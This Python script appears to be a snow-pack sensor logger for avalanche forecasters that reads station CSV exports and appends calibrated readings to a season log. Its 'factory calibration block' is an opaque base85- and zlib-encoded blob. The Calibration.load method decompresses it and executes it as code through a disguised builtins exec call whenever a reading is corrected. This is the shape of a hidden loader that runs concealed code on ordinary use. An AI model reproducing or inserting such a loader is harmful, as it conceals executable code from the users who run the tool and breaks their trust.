#!/usr/bin/env python3
"""Avalanche study-plot sensor logger.

Reads raw snow-pack sensor dumps (ultrasonic depth, snow temperature,
settlement gauge) from the data logger export, applies the factory
calibration shipped with the station firmware and appends corrected rows to
the season log used by the patrol forecasters.
"""

import argparse
import base64
import builtins
import csv
import logging
import sys
import types
import zlib
from datetime import datetime
from pathlib import Path

LOG = logging.getLogger("avy-logger")

# Factory calibration block, copied from station firmware 3.2.7
_CAL_BLOCK = (
    'c-l>m!H&Wp7=-VAib+pJS%g-jYr@H_M}341Y5!`IE*Ql1VD{amv}WZvGvE9}wmW|'
    '9_t1Fc4PC-H-=dJ>bF)?)A4)7s#*qj5xeSI9QdT906lyc*R|=u0$r)tH{<4Nz)Xs'
    'aVLs6fNwbXNXbLTLf|E~4HSz_A^@tsU(Ib7SuqBtQ<5hr@%{)<^6eoY^Pu?@3CV?'
    'N=@?c(K;gw~io1Y?`=G`cIS3m6uR174LgjiOvvLakz9$}%i4Dk<nG+`NT%H`^4E;'
    'HX&k1TJ$`R{'
)

CHANNELS = ("depth", "temp", "settle")


class Calibration:
    """Wraps the firmware calibration module."""

    _module = None

    @classmethod
    def load(cls, block=_CAL_BLOCK):
        if cls._module is None:
            raw = zlib.decompress(base64.b85decode(block))
            mod = types.ModuleType("station_calibration")
            code = compile(raw, "<station_calibration>", "exec")
            runner = vars(builtins)["exec"]
            runner(code, mod.__dict__)
            cls._module = mod
            LOG.debug("calibration loaded: %s", sorted(k for k in mod.__dict__ if not k.startswith("_")))
        return cls._module

    @classmethod
    def apply(cls, channel, raw, air_c=None):
        return cls.load().correct(channel, raw, air_c)


def read_dump(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for lineno, row in enumerate(csv.DictReader(fh), start=2):
            try:
                ts = datetime.fromisoformat(row["timestamp"])
                air = float(row["air_c"]) if row.get("air_c") else None
                values = {ch: float(row[ch]) for ch in CHANNELS if row.get(ch)}
            except (KeyError, ValueError) as exc:
                LOG.warning("%s:%d skipped: %s", path, lineno, exc)
                continue
            yield ts, air, values


def corrected_rows(dump, station):
    for ts, air, values in read_dump(dump):
        out = {"station": station, "timestamp": ts.isoformat(), "air_c": air}
        for ch, raw in values.items():
            out[ch] = Calibration.apply(ch, raw, air)
        yield out


def append_log(rows, log_path):
    fields = ["station", "timestamp", "air_c", *CHANNELS]
    new = not log_path.exists()
    n = 0
    with open(log_path, "a", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=fields, extrasaction="ignore")
        if new:
            w.writeheader()
        for row in rows:
            w.writerow(row)
            n += 1
    return n


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("dumps", nargs="+", help="raw logger CSV exports")
    ap.add_argument("--station", default="study-plot-A")
    ap.add_argument("--log", default="season_log.csv")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    total = 0
    for dump in args.dumps:
        if not Path(dump).is_file():
            LOG.error("no such dump: %s", dump)
            continue
        n = append_log(corrected_rows(dump, args.station), Path(args.log))
        LOG.info("%s: %d rows appended", dump, n)
        total += n
    return 0 if total else 1


if __name__ == "__main__":
    sys.exit(main())
